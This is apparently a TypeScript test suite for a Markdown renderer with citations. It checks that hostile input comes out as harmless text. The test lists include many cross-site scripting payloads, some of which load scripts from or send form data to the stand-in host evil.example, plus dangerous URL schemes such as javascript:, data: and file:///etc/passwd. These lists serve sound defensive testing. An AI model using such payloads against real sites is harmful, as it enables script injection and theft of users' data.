import assert from 'node:assert/strict'
import { test } from 'node:test'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { numbered } from '../src/logic/citations.ts'
import { Citation, markdown, safeAddress } from '../src/logic/markdown.ts'

const rendered = (text: string, known: string[] = []) => {
  const cited = numbered(text, known)
  const value = (number: number) => createElement('sup', null, number)
  return renderToStaticMarkup(createElement(Citation, { value }, markdown(cited.text, cited.names)))
}

const SCRIPTS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example">',
  '<a href="javascript:alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{background:url(//evil.example)}</style>',
  '<form action="//evil.example"><input name=key></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<math><mtext></p><img src onerror=alert(1)></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<input autofocus onfocus=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<a href="x" style="position:fixed;inset:0">x</a>',
]
const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  ' javascript:alert(1)',
  'javascript&colon;alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zz4=',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://a/b',
  'filesystem:https://a/b',
  'ws://evil.example',
  'about:blank',
  '//evil.example/x',
  '/content/evil.html',
  '#/jobs',
  'content/evil.svg',
  '?code=stolen',
  'view-source:https://a',
  'intent://x#Intent;end',
  'https:evil',
  'http:/\\evil.example',
]
const TEXTS = [...SCRIPTS, ...ADDRESSES.flatMap((each) => [`[x](${each})`, `![x](${each})`, `[x]: ${each}\n\n[x]`, `<${each}>`])]

test(`${TEXTS.length} attacks become text: no element, attribute or address of theirs`, () => {
  assert.ok(TEXTS.length >= 50)
  for (const text of TEXTS) {
    const html = rendered(text)
    const tags = [...html.matchAll(/<\/?([a-z0-9]+)((?:\s[^>]*)?)>/gi)]
    for (const [tag, name = '', attributes = ''] of tags) {
      assert.ok(['p', 'span', 'a', 'br', 'code', 'pre', 'em', 'ul', 'li'].includes(name), `${text} → ${tag}`)
      assert.doesNotMatch(attributes, /\son\w+=|style=|src=/i, text)
      const address = /href="([^"]*)"/.exec(attributes)?.[1]
      if (address !== undefined) assert.match(address, /^(https?:\/\/|mailto:)/, text)
    }
  }
})

test('an address leads to the web or to mail, or nowhere', () => {
  for (const each of ADDRESSES) assert.ok(!safeAddress(each) || /^https?:/.test(safeAddress(each)), each)
  assert.equal(safeAddress('https://example.org/a?b#c'), 'https://example.org/a?b#c')
  assert.equal(safeAddress('mailto:a@example.org'), 'mailto:a@example.org')
})

test('Markdown is shown, with citations as numbers', () => {
  const html = rendered('**Bold** and [my_own_plan.pdf#page=4].\n\n| a | b |\n|---|---|\n| 1 | 2 |', ['my_own_plan.pdf#page=4'])
  assert.match(html, /<strong>Bold<\/strong> and<sup>1<\/sup>\./)
  assert.match(html, /<td>1<\/td><td>2<\/td>/)
})

test('links open elsewhere and tell nothing of this page; pictures are their description', () => {
  assert.match(rendered('[x](https://example.org)'), /rel="noopener noreferrer nofollow"/)
  assert.equal(rendered('![a cat](https://evil.example/pixel)'), '<p><span class="picture">[picture: a cat]</span></p>')
})

test('a citation in code stays a name', () => {
  assert.equal(rendered('`x [a.md]`', ['a.md']), '<p><code>x[a.md]</code></p>')
})
